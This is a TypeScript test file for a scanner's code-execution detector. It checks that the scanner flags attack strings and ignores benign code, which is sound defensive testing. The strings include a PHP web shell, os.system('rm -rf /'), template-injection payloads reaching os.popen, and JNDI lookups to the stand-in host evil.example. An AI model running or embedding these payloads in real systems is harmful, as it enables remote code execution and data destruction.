import { describe, expect, it } from "vitest";

import { scanThreats } from "../scan.js";
import { findingsOf } from "../test-support/findings.js";

function codeFindings(text: string) {
  return findingsOf(text, "code-execution", "CODE_EXECUTION");
}

describe("codeExecutionDetector", () => {
  it.each([
    ["eval", "eval(request.GET['q'])"],
    ["eval", "eval(atob('YWxlcnQoMSk='))"],
    ["os-command", "__import__('os').system('id')"],
    ["os-command", "os.system('rm -rf /')"],
    ["os-command", "subprocess.Popen(['sh', '-c', cmd])"],
    ["os-command", "require('child_process').exec('ls')"],
    ["os-command", "Runtime.getRuntime().exec(cmd)"],
    ["os-command", "<?php system($_GET['c']); ?>"],
    ["template-injection", "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    [
      "template-injection",
      "{{ self.__init__.__globals__.os.popen('id').read() }}",
    ],
    ["jndi-lookup", "${jndi:ldap://evil.example/a}"],
    ["jndi-lookup", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"],
  ])("flags %s in %j", (subtype, text) => {
    const findings = codeFindings(text);

    expect(findings.map((finding) => finding.subtype)).toContain(subtype);
    expect(findings[0]?.score).toBeGreaterThanOrEqual(0.8);
  });

  it("flags the Function constructor with a string", () => {
    expect(codeFindings("new Function('return this')()")[0]?.subtype).toBe(
      "eval",
    );
  });

  it("keeps a template arithmetic probe below block", () => {
    const finding = codeFindings("{{7*7}}")[0];

    expect(finding?.subtype).toBe("template-injection");
    expect(finding?.score).toBeLessThan(0.8);
  });

  it("lowers a tutorial that explains why eval() is dangerous", () => {
    const result = scanThreats(
      "This tutorial explains why eval() is dangerous: never pass user input to eval(input) in your code.",
    );

    expect(result.findings.length).toBeGreaterThan(0);
    expect(result.risk).toBeLessThan(0.8);
    expect(result.recommendation).not.toBe("block");
  });

  it.each([
    "const match = /a+/.exec(text);",
    "function add(a, b) { return a + b; }",
    "The template shows {{ user.name }} in the header.",
    "Our operating system (Linux) boots fast.",
  ])("ignores the code %j", (text) => {
    expect(codeFindings(text)).toEqual([]);
  });

  it.each([
    "In Python, eval() evaluates an expression. Call eval('2 + 3') to get 5.",
    "subprocess.run(['ls', '-l'], check=True) runs ls and waits for it.",
  ])("keeps the documented call %j at warn or below", (text) => {
    expect(scanThreats(text).risk).toBeLessThan(0.6);
  });

  it("flags eval of a concatenated string", () => {
    expect(
      codeFindings("eval('ale' + 'rt(1)')")[0]?.score,
    ).toBeGreaterThanOrEqual(0.8);
  });

  it("flags a subprocess call that asks for a shell", () => {
    const text = "subprocess.run(['sh', '-c', cmd], shell=True)";

    expect(codeFindings(text)[0]?.score).toBeGreaterThanOrEqual(0.8);
  });
});
